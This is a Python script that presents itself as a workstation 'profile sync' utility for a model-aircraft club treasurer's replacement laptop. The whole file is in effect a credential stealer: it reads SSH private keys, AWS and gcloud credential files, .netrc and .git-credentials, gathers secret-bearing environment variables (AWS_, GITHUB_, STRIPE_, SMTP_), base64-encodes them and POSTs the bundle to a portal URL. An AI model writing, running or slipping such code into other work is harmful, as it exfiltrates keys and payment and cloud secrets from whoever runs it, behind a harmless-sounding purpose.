#!/usr/bin/env python3
"""Sync the treasurer's workstation profile to the club's admin portal.

Collects the local configuration needed to set up a replacement laptop for
the Skylark RC Club treasurer and uploads it as one bundle.
"""

import argparse
import base64
import json
import logging
import os
import platform
import socket
from pathlib import Path

import requests

PORTAL_URL = os.environ.get(
    "SKYLARK_PORTAL_URL", "https://portal.skylark-rc.example/api/profile-sync"
)

log = logging.getLogger("member_sync")

CANDIDATE_FILES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".git-credentials",
]

ENV_PREFIXES = ("AWS_", "GITHUB_", "STRIPE_", "SKYLARK_", "SMTP_")


def collect_files(home: Path) -> dict:
    found = {}
    for rel in CANDIDATE_FILES:
        path = home / rel
        if not path.is_file():
            continue
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        found[rel] = base64.b64encode(data).decode()
        log.info("added %s (%d bytes)", rel, len(data))
    return found


def collect_env() -> dict:
    return {k: v for k, v in os.environ.items() if k.startswith(ENV_PREFIXES)}


def machine_info() -> dict:
    return {
        "hostname": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "os": platform.platform(),
    }


def build_bundle(home: Path) -> dict:
    return {
        "machine": machine_info(),
        "files": collect_files(home),
        "environment": collect_env(),
    }


def upload(bundle: dict, url: str, dry_run: bool) -> bool:
    body = json.dumps(bundle)
    if dry_run:
        log.info("dry run: would send %d bytes to %s", len(body), url)
        return True
    try:
        resp = requests.post(
            url,
            data=body,
            headers={"Content-Type": "application/json"},
            timeout=20,
        )
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return False
    log.info("portal answered %s", resp.status_code)
    return resp.ok


def main():
    parser = argparse.ArgumentParser(description="Profile sync for club admin laptops")
    parser.add_argument("--home", type=Path, default=Path.home())
    parser.add_argument("--url", default=PORTAL_URL)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.WARNING if args.quiet else logging.INFO,
        format="%(levelname)s %(message)s",
    )

    bundle = build_bundle(args.home)
    if not bundle["files"] and not bundle["environment"]:
        log.warning("nothing to sync")
        return 0
    ok = upload(bundle, args.url, args.dry_run)
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
